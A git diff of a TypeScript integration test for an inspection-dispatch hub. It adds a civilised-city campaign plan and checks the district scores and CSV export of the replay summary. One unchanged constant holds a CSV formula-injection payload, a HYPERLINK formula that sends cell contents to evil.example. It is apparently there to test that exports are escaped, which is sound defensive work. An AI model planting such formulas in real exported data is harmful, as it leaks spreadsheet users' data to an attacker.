@@ -1,5 +1,14 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { worldNow, type Inspection, type LogEvent, type PrepositionOrder, type ReplaySummary } from '@egret/protocol';
+import {
+  worldNow,
+  type InspectionPoint,
+  type Inspection,
+  type LogEvent,
+  type PlanDef,
+  type PrepositionOrder,
+  type ReplaySummary,
+} from '@egret/protocol';
+import type { EgretConfig } from '@egret/config';
 import { waitFor } from './hub-fixture.ts';
 import { input, readLogEvents, registerUnit } from './loop-fixture.ts';
 import {
@@ -20,6 +29,45 @@ const MINUTE = 60_000;
 const POINTS = 12;
 /** A 督办 note as an attacker would write it: a spreadsheet formula, quotes, a comma and a line break. */
 const NOTE = '=HYPERLINK("http://evil.example/?"&A1,"点我"),\n@SUM(1)';
+/** Six assessment points in each of Siming and Huli, and a 文明创建 plan whose Ⅳ walks them daily within 2 h. */
+function withCivilisedPlan(base: EgretConfig): EgretConfig {
+  const points: InspectionPoint[] = Array.from({ length: 12 }, (_, i) => ({
+    id: `AP-${String(i + 1).padStart(3, '0')}`,
+    kind: 'assessment_point',
+    name: `测评点位 ${i + 1}`,
+    position: i < 6 ? [118.09 + i * 0.002, 24.46] : [118.12 + i * 0.002, 24.51],
+    district: i < 6 ? '350203' : '350206',
+    site: 'market',
+    approximate: true,
+  }));
+  const plan: PlanDef = {
+    id: 'test-civilised',
+    name: '文明创建迎检（测试）',
+    campaign: 'civilised_city',
+    mode: 'civilised_city',
+    version: 'test',
+    levels: [
+      {
+        level: 'IV',
+        name: '文明创建Ⅳ级',
+        triggers: [],
+        actions: [
+          {
+            kind: 'round',
+            id: 'assess',
+            name: '测评点位巡查',
+            pointSet: 'test-assess',
+            dueMinutes: 120,
+            repeatMinutes: 1440,
+            problem: { categoryCode: '06010', urgency: 'normal', deadlineHours: 24 },
+          },
+        ],
+      },
+    ],
+  };
+  return { ...base, plans: [...base.plans, plan], pointSets: new Map([...base.pointSets, ['test-assess', points]]) };
+}
+
 /** World time of the drill: a whole hour a day ahead of real time, so no event before it runs later than it. */
 const W0 = Math.ceil((Date.now() + 24 * HOUR) / HOUR) * HOUR;
 
@@ -57,7 +105,10 @@ describe('the after-action summary of a plan (issue #17): what was ordered, done
 
   beforeAll(async () => {
     // The leader's pass is slowed right down: the plan moves by the commands and checks of the test alone.
-    hub = await startAuthHub('plan-report', { config: planConfig(POINTS), planTickMs: 3_600_000 });
+    hub = await startAuthHub('plan-report', {
+      config: withCivilisedPlan(planConfig(POINTS)),
+      planTickMs: 3_600_000,
+    });
     await addUser(hub.store, 'cora', 'commander');
     await addUser(hub.store, 'dan', 'dispatcher');
     cookie = await sessionCookie(hub.url, 'cora', PASSWORD);
@@ -196,5 +247,69 @@ describe('the after-action summary of a plan (issue #17): what was ordered, done
       await fetch(`${hub.url}/api/replay/summary?from=${W0 - 2 * HOUR}&to=${W0 - MINUTE}`, { headers: { cookie } })
     ).json()) as ReplaySummary;
     expect(before.plans).toEqual([]);
+  });
+
+  it('文明创建: the day’s 流动红旗 in the summary scores each district as plain counting does', async () => {
+    const cora = await screenOf('cora');
+    const start = W0 + 8 * HOUR;
+    await clockAt(start);
+    const activated = await sendCommand(cora, 'plan:activate', { planId: 'test-civilised', level: 'IV' });
+    expect(activated).toMatchObject({ ok: true, data: { issued: { inspections: 12 } } });
+    await waitFor(
+      'the round',
+      () => [...world().inspections.values()].filter((i) => i.planId === 'test-civilised').length === 12,
+    );
+    const round = [...world().inspections.values()]
+      .filter((i) => i.planId === 'test-civilised')
+      .sort((a, b) => (a.pointId < b.pointId ? -1 : 1));
+    for (const s of new Set(round.map((i) => i.squadId)))
+      if (!world().units.has(`U-${s}`))
+        await registerUnit(hub.redis, hub.keys, `U-${s}`, {
+          squadId: s,
+          district: round.find((i) => i.squadId === s)!.district,
+        });
+    await waitFor('units', () => round.every((i) => world().units.has(`U-${i.squadId}`)));
+    // Siming: all six passed. Huli: three passed, one problem, two never checked.
+    for (const i of round.slice(0, 9)) await check(i, 'passed');
+    await check(round[9]!, 'problem', 'PR-CC-1');
+    await clockAt(start + 3 * HOUR);
+
+    const from = start - MINUTE;
+    const to = start + 3 * HOUR + 30 * MINUTE;
+    const summary = (await (
+      await fetch(`${hub.url}/api/replay/summary?from=${from}&to=${to}`, { headers: { cookie } })
+    ).json()) as ReplaySummary;
+    expect(summary.campaignDays).toHaveLength(1);
+    const rows = summary.campaignDays![0]!.rows;
+    expect(rows.map((r) => [r.district, r.rank, r.flag])).toEqual([
+      ['350203', 1, 'red'],
+      ['350206', 2, null],
+    ]);
+
+    // Plain counting over the raw log, and the formula of campaign-scores written out.
+    let runMax = 0;
+    const last = new Map<string, Inspection>();
+    for (const e of await readLogEvents(hub.redis, hub.keys)) {
+      runMax = Math.max(runMax, e.at);
+      if (runMax <= from || runMax > to) continue;
+      if (e.type === 'inspections.issued')
+        for (const i of e.inspections) if (i.kind === 'assessment_point') last.set(i.id, i);
+      if (e.type === 'inspection.checked' && last.has(e.inspection.id)) last.set(e.inspection.id, e.inspection);
+    }
+    for (const d of ['350203', '350206']) {
+      const xs = [...last.values()].filter((i) => i.district === d);
+      const passed = xs.filter((i) => i.status === 'passed').length;
+      const checked = xs.filter((i) => i.status !== 'open').length;
+      const settled = checked + xs.filter((i) => i.status === 'open' && to > i.due).length;
+      // The one problem's case is within its 24 h: nothing fixed or late yet, so the third part is the on-time share.
+      const score =
+        Math.round((60 * (passed / settled) + 20 * (checked / settled) + 20 * (checked / settled)) * 10) / 10;
+      expect(rows.find((r) => r.district === d)).toMatchObject({ score, settled, passed, inspections: xs.length });
+    }
+    expect(rows[1]!.score).toBe(56.7);
+    const csv = await (
+      await fetch(`${hub.url}/api/replay/summary?from=${from}&to=${to}&format=csv`, { headers: { cookie } })
+    ).text();
+    expect(csv).toMatch(/\n\d{4}-\d\d-\d\d,1,350203,100,,red,6,6,6,0,0,0,0\n/);
   });
 });
